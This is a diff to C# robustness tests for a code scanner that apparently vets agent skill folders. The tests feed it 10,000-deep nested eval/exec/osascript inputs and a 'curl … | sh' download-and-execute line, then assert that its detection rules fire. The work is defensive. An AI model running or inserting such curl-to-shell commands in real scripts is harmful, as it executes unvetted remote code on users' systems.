@@ -44,6 +44,7 @@ public sealed class RobustnessTests : IClassFixture<ScannerFixture>
 
     [Theory]
     [InlineData("deep.js", "[", "]", "\neval(x);\n", "SS-JS-EVAL")]
+    [InlineData("deep.ts", "[", "]", "\neval(x);\n", "SS-JS-EVAL")]
     [InlineData("deep.py", "(", ")", "\nexec(x)\n", "SS-PY-EXEC")]
     [InlineData("deep.sh", "$(echo ", ")", "\ncurl -s https://example.invalid | sh\n", "SS-DOWNLOAD-EXEC-PIPE")]
     public async Task Scan_TenThousandDeepNesting_StillFindsTheCodeAfterIt(string file, string open, string close, string tail, string rule)
@@ -55,8 +56,43 @@ public sealed class RobustnessTests : IClassFixture<ScannerFixture>
 
         var report = await ScanGuarded(_scanner, dir.Path);
 
-        Assert.DoesNotContain(report.Findings, f => f.RuleId == "SS-PARSE-ERROR");
+        Assert.DoesNotContain(report.Findings, f => f.RuleId is "SS-PARSE-ERROR" or "SS-SCAN-INCOMPLETE");
         Assert.Contains(report.Findings, f => f.RuleId == rule && f.File == file);
+    }
+
+    // Each call on its own line, so each level is its own finding: the outer levels were dropped by the query cursor.
+    [Theory]
+    [InlineData("calls.sh", "eval $(\n", ")", "SS-SH-EVAL")]
+    [InlineData("calls.js", "eval(\n", ")", "SS-JS-EVAL")]
+    [InlineData("calls.ts", "eval(\n", ")", "SS-JS-EVAL")]
+    [InlineData("calls.py", "exec(\n", ")", "SS-PY-EXEC")]
+    public async Task Scan_TenThousandNestedCalls_FindsEveryLevel(string file, string open, string close, string rule)
+    {
+        using var dir = new TempDirectory();
+        dir.Write("SKILL.md", Frontmatter);
+        const int Depth = 10_000;
+        dir.Write(file, string.Concat(Enumerable.Repeat(open, Depth)) + "x" + string.Concat(Enumerable.Repeat(close, Depth)) + "\n");
+
+        var report = await ScanGuarded(_scanner, dir.Path);
+
+        var lines = report.Findings.Where(f => f.RuleId == rule && f.File == file).Select(f => f.Line).ToHashSet();
+        Assert.Equal(Enumerable.Range(1, Depth).ToHashSet(), lines);
+        Assert.DoesNotContain(report.Findings, f => f.RuleId == "SS-SCAN-INCOMPLETE");
+    }
+
+    [Fact]
+    public async Task Scan_TenThousandNestedArgumentsUnderARegexCheck_FailsClosed()
+    {
+        using var dir = new TempDirectory();
+        dir.Write("SKILL.md", Frontmatter);
+        const int Depth = 10_000;
+        dir.Write("ask.sh", string.Concat(Enumerable.Repeat("osascript $(", Depth)) + "x" + new string(')', Depth) + "\n");
+
+        var report = await ScanGuarded(_scanner, dir.Path);
+
+        var incomplete = Assert.Single(report.Findings, f => f.RuleId == "SS-SCAN-INCOMPLETE");
+        Assert.Equal("ask.sh", incomplete.File);
+        Assert.Equal(Severity.High, incomplete.Severity);
     }
 
     [Fact]
